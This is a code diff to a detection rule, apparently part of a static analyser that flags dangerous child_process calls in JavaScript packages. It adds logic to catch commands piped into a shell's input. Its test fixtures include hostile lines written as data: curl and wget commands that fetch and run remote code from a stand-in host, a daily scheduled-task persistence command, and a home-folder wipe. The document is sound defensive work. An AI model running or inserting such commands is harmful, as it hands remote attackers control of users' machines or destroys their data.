@@ -1,6 +1,6 @@
 import { isNamesake } from '../src/define/namesake.js';
 import { defineRule, step } from '../src/define.js';
-import type { Call, FileContext, ShellCommand } from '../src/types.js';
+import type { AnyNode, Call, FileContext, ShellCommand } from '../src/types.js';
 import { type Deed, deedsOf } from '../src/vocabulary/deeds.js';
 import { oddAddress } from '../src/vocabulary/services.js';
 
@@ -78,9 +78,21 @@ export default defineRule({
         title: 'a package has itself started every day, whoever loads it',
         code: `require('child_process').execSync('schtasks /create /tn a /tr "node a.js" /sc daily');`,
       },
+      {
+        title: 'a shell is given its commands as input',
+        code: `const shell = require('child_process').spawn('sh');\nshell.stdin.end('curl -s https://stage.invalid/x | sh');`,
+      },
+      {
+        title: 'and as an option',
+        code: `require('child_process').execFileSync('/bin/bash', ['-s'], { input: 'wget -qO- https://stage.invalid/x | sh' });`,
+      },
       { title: 'the home folder is wiped', code: `require('child_process').execSync('rm -rf ~/');` },
     ],
     passes: [
+      {
+        title: 'a shell is given a harmless line, and another program a text with commands in it',
+        code: `const { spawn } = require('child_process');\nspawn('sh').stdin.end('make all');\nspawn('bash', ['build.sh']).stdin.end('yes');\nspawn('cat').stdin.end('how to: curl -fsSL');`,
+      },
       { title: 'a compiler is started', code: `require('child_process').execSync('node-gyp rebuild');` },
       { title: 'a build folder is removed', code: `require('child_process').execSync('rm -rf dist && mkdir dist');` },
       {
@@ -117,6 +129,16 @@ export default defineRule({
     ],
   },
   file(context) {
+    for (const { line, says, at } of linesFor(context)) {
+      const commands = context.commandsOf(line);
+      const worst = deedsOf(commands).find(({ deed }) => !QUIET.has(deed) && deed !== 'executable');
+      if (!worst) continue;
+      context.report({
+        messageId: messageOf(context, worst.deed, commands),
+        data: { says: worst.says, command: worst.command.text },
+        chain: [step('sink', `${worst.says} through ${says}`, context.file, at)],
+      });
+    }
     for (const call of context.calls('process')) {
       const [program, list] = call.args;
       if (!program) continue;
@@ -136,6 +158,45 @@ export default defineRule({
     }
   },
 });
+
+interface Line {
+  readonly line: AnyNode;
+  readonly says: string;
+  readonly at: AnyNode;
+}
+
+/** Lines that a shell is given as its input: `spawn('sh').stdin.end(line)`, `execSync('sh', { input: line })`. */
+function linesFor(context: FileContext): readonly Line[] {
+  const shells = context.calls('process').filter(call => isWaitingShell(context, call));
+  if (shells.length === 0) return [];
+  const written = context
+    .named(/^child_process\.\w+\(\)\.stdin\.(?:write|end)$/)
+    .flatMap(({ name, node, args: [line] }) => (line ? [{ line, says: name, at: node }] : []));
+  const handed = shells.flatMap(({ name, node, args }) =>
+    args.flatMap(inputIn).map(line => ({ line, says: name, at: node })),
+  );
+  return [...written, ...handed];
+}
+
+/** A shell that was given nothing to run, and so waits for it. */
+function isWaitingShell({ commandsOf }: FileContext, { args: [program, list] }: Call): boolean {
+  const [command, ...others] = program ? commandsOf(program, list) : [];
+  return (
+    command !== undefined &&
+    others.length === 0 &&
+    /^(?:ba|z|da|k)?sh$|^(?:cmd|powershell|pwsh)$/.test(command.program) &&
+    command.words.every(word => /^[-/]/.test(word))
+  );
+}
+
+function inputIn(options: AnyNode): readonly AnyNode[] {
+  if (options.type !== 'ObjectExpression') return [];
+  return options.properties.flatMap(property =>
+    property.type === 'Property' && (property.key as { name?: string; value?: unknown }).name === 'input'
+      ? [property.value as AnyNode]
+      : [],
+  );
+}
 
 function messageOf({ moment }: FileContext, deed: Deed, commands: readonly ShellCommand[]): string {
   if (deed === 'download-run' && isProgram(commands)) return 'download-program';
